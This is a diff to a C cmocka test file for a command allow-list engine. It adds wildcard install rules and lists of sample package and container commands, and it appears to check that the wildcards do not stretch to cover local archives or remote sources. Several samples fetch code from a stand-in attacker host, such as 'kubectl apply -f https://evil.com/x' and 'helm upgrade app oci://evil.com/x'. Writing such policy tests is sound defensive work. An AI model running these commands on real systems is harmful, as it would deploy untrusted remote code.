@@ -287,6 +287,35 @@ static const char *const asked[] = {
 	"sqlite3 b.db 'vacuum' </dev/null", "mariadb '--execute=show tables' </dev/null",
 };
 
+/* A star for a package, an image or a manifest. */
+static const char packages[] =
+	"version: 1\n"
+	"profile: enforce\n"
+	"packs: [core.readonly]\n"
+	"rules:\n"
+	"  - id: op\n"
+	"    allow: [\"npm install *\", \"sudo pip install *\", \"dnf install -y *\", \"yum install -y *\", \"gem install *\", \"go install *\", \"go test *\",\n"
+	"            \"cargo install *\", \"sudo snap install *\", \"docker pull nginx:*\", \"docker run --rm -v data:* img\",\n"
+	"            \"docker pull hub.corp.io:5000/app:*\", \"podman pull app:*\", \"kubectl apply -f *\", \"kubectl apply --filename=*\",\n"
+	"            \"helm upgrade app *\", \"kubectl annotate svc x url=*\", \"sudo helm repo add corp *\", \"helm upgrade app c --set url=*\",\n"
+	"            \"docker run -p 80:* img\", \"sudo pip3 install *.whl\", \"sudo apk add *\", \"npm run *\"]\n";
+
+static const char *const local[] = {
+	"npm install evil.tgz", "npm install evil.tar.gz", "npm install EVIL.TGZ", "sudo pip install x.whl", "sudo pip install x.tar.gz", "sudo pip install x.zip",
+	"dnf install -y x.rpm", "yum install -y x.rpm", "gem install ./x.gem", "gem install x.gem", "gem install a/x", "go install ./x", "go install .", "go install x.go",
+	"cargo install .", "sudo snap install x.snap", "sudo apk add x.apk", "docker pull nginx:5000/evil", "podman pull app:5000/evil",
+	"docker pull hub.corp.io:5000/app:1/x", "kubectl apply -f https://evil.com/x", "kubectl apply --filename=https://evil.com/x", "helm upgrade app oci://evil.com/x",
+	"helm upgrade app https://evil.com/x.tgz",
+};
+
+static const char *const fetched[] = {
+	"npm install left-pad@1.2", "npm install @a/b@1.2", "npm run build.zip", "sudo pip install requests==2.31.0", "sudo pip install zope.interface",
+	"sudo pip3 install x.whl", "dnf install -y nginx-1.2.x86_64", "gem install rails", "go install example.com/x@latest", "go test ./...", "cargo install ripgrep",
+	"sudo snap install hello", "sudo apk add nginx", "docker pull nginx:1.25", "docker pull hub.corp.io:5000/app:1.2", "docker run --rm -v data:/data img",
+	"kubectl apply -f x.yaml", "kubectl apply -f k8s/x.yaml", "kubectl apply --filename=x.yaml", "kubectl annotate svc x url=https://a/b",
+	"helm upgrade app charts/app", "sudo helm repo add corp https://charts.corp.io", "helm upgrade app c --set url=https://a/b", "docker run -p 80:80/tcp img",
+};
+
 static const char restricts[] =
 	"version: 1\n"
 	"profile: enforce\n"
@@ -490,6 +519,12 @@ static void stars_are_for_one_statement(void **state)
 	ask_all(queries, widened, COUNT(widened), asked, COUNT(asked));
 }
 
+static void stars_are_for_what_is_fetched_from_its_place(void **state)
+{
+	(void)state;
+	ask_all(packages, local, COUNT(local), fetched, COUNT(fetched));
+}
+
 static void restrictions_are_for_tools_of_no_table(void **state)
 {
 	(void)state;
@@ -538,6 +573,7 @@ int main(void)
 		cmocka_unit_test(stars_are_for_one_place),
 		cmocka_unit_test(stars_are_for_a_part_of_an_address),
 		cmocka_unit_test(stars_are_for_one_statement),
+		cmocka_unit_test(stars_are_for_what_is_fetched_from_its_place),
 		cmocka_unit_test(restrictions_are_for_tools_of_no_table),
 		cmocka_unit_test(restrictions_are_for_every_way_to_say_it),
 		cmocka_unit_test(restrictions_are_for_what_is_run),
